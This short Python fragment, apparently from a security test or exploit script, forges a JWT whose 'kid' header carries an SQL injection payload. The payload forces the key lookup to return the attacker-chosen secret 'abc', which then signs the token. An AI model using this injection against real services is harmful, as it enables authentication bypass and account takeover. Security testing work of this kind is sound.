# a blob as text, and every row but that one ruled out
queried = forge(
    {"alg": "HS256", "kid": "' AND 1=0 UNION ALL SELECT CAST(x'616263' AS TEXT) --"},
    wanted,
    secret=b"abc",
)
